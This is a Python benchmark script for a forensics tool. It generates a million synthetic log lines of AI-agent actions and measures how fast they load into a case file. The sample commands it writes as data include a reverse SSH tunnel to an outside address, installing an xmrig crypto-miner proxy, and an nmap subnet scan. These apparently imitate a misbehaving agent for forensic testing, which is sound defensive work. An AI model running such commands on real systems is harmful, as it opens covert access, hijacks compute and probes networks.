"""forensics-agent-jsonl load speed and memory.

Generates a JSONL file of N agent actions (default 1,000,000) in the documented format
(docs/agent_jsonl.md): every line carries the marker, time, run, trajectory, step, host,
actor, type, command, exit_code and an output excerpt; one line in four has a tool call
and an `extra` object. Then, in a fresh process so peak RSS is honest, loads it into a case
FILE with `forensics.open_case` (SHA-256, provenance, reject accounting and the commit
included) and prints rows/s and peak RSS.

Usage: python benchmarks/bench_agent.py [--rows 1000000] [--keep DIR]
Target on the 2-core reference machine: >= 300,000 rows/s.
"""

from __future__ import annotations

import argparse
import json
import os
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

from child import load_source  # this folder is on sys.path when run

REPO = Path(__file__).resolve().parent.parent


def generate(rows: int, path: Path) -> None:
    """Write `rows` actions, vectorised with polars (the generator is not what is timed)."""
    import numpy as np
    import polars as pl

    rng = np.random.default_rng(11)
    commands = np.array([
        "ls -la /workspace", "cat /etc/hosts", "python -m pytest -q tests/",
        "nvidia-smi --query-gpu=utilization.gpu --format=csv",
        "ssh -N -R 2222:localhost:22 tunnel@203.0.113.7",
        "curl -s http://10.42.0.1:8080/api/v1/nodes | head",
        "git diff --stat", "pip install xmrig-proxy==6.21.0",
        "nmap -sT -p 22,80,443 10.42.7.0/24", "echo \"done\" > /tmp/flag.txt",
    ])
    outputs = np.array([
        "total 12\ndrwxr-xr-x 3 agent agent 4096 Mar  4 10:00 .", "127.0.0.1 localhost",
        "3 passed in 0.42s", "utilization.gpu [%]\n97 %", "", "{\"items\": []}",
        " src/a.py | 2 +-", "Successfully installed xmrig-proxy", "Nmap done: 256 IP addresses",
        "",
    ])
    idx = rng.integers(0, len(commands), rows)
    t0 = 1772582400_000_000  # 2026-03-04T00:00:00Z in microseconds
    ts = t0 + np.sort(rng.integers(0, 86_400_000_000, rows))
    traj = np.arange(rows) // 50
    frame = pl.DataFrame({
        "schema": ["forensics.agent/1"] * rows,
        "time": pl.Series(ts).cast(pl.Datetime("us", "UTC")).dt.strftime(
            "%Y-%m-%dT%H:%M:%S%.6fZ"),
        "run": "rl-run-" + pl.Series(traj // 1000).cast(pl.String).str.pad_start(4, "0"),
        "trajectory": "traj-" + pl.Series(traj).cast(pl.String),
        "step": np.arange(rows) % 50,
        "host": "sandbox-" + pl.Series(rng.integers(1, 64, rows)).cast(pl.String),
        "actor": ["agent"] * rows,
        "type": np.where(idx % 4 == 0, "tool_call", "shell"),
        "command": commands[idx],
        "exit_code": rng.integers(0, 3, rows),
        "output": outputs[idx],
    })
    extra = pl.when(pl.col("type") == "tool_call").then(pl.struct(
        pl.lit("policy-v3").alias("model"), pl.lit(0.7).alias("temperature"),
        pl.col("step").alias("tokens")))
    tool = pl.when(pl.col("type") == "tool_call").then(pl.lit("bash"))
    frame = frame.with_columns(tool.alias("tool"), extra.alias("extra"))
    frame.write_ndjson(path)


def measure(path: Path, case_path: Path) -> dict[str, float]:
    """Run in a child process: load into a case file, report time and peak RSS."""
    code = (
        load_source(REPO, path, case_path)
        + "assert f.status == 'loaded', f.message\n"
        "n = case.sql('SELECT count(*) AS n FROM agent_actions')['n'][0]\n"
        "print(json.dumps({'seconds': dt, 'cpu': cpu, 'rows': f.rows, 'rejects': f.rejects,"
        " 'stored': int(n),"
        " 'peak_rss_mb': peak_rss_mib()}))\n"
    )
    out = subprocess.run([sys.executable, "-c", code], check=True, capture_output=True,
                         text=True)
    return json.loads(out.stdout.strip().splitlines()[-1])


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--rows", type=int, default=1_000_000)
    parser.add_argument("--keep", type=Path, default=None)
    args = parser.parse_args()
    tmp = args.keep or Path(tempfile.mkdtemp(prefix="bench_agent_"))
    tmp.mkdir(parents=True, exist_ok=True)
    path = tmp / "actions.jsonl"
    t = time.perf_counter()
    generate(args.rows, path)
    print(f"generated {args.rows:,} actions ({path.stat().st_size / 1e6:.0f} MB) in "
          f"{time.perf_counter() - t:.1f}s: {path}")
    case_path = tmp / "case.duckdb"
    for p in (case_path, Path(f"{case_path}.wal")):
        if p.exists():
            os.remove(p)
    r = measure(path, case_path)
    rate = r["rows"] / r["seconds"]
    print(f"forensics-agent-jsonl: {r['rows']:,} rows ({r['rejects']} rejects, "
          f"{r['stored']:,} stored) in {r['seconds']:.2f}s = {rate:,.0f} rows/s; "
          f"cpu {r['cpu']:.2f}s (all threads); load avg {os.getloadavg()[0]:.1f}; "
          f"peak RSS {r['peak_rss_mb']:.0f} MB (this process: "
          f"{resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024:.0f} MB)")
    print("target >= 300,000 rows/s:", "met" if rate >= 300_000 else "NOT met")
    if args.keep is None:
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
